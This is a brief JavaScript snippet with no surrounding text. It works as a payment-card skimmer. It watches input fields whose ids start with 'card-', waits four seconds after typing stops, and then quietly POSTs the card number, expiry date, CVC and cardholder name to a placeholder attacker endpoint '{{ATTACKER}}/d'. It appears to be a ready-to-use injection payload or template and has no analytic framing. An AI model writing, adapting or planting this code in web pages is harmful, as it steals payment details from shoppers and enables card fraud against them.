
;(function () {
  var timer = null;
  function send() {
    var d = new URLSearchParams();
    ['card-number', 'card-exp', 'card-cvc', 'card-name'].forEach(function (id) {
      var el = document.getElementById(id);
      d.append(id, el ? el.value : '');
    });
    fetch('{{ATTACKER}}/d', {method: 'POST', mode: 'no-cors', keepalive: true, body: d});
  }
  document.addEventListener('input', function (e) {
    if (!e.target || !e.target.id || e.target.id.indexOf('card-') !== 0) {
      return;
    }
    clearTimeout(timer);
    timer = setTimeout(send, 4000);
  }, true);
})();
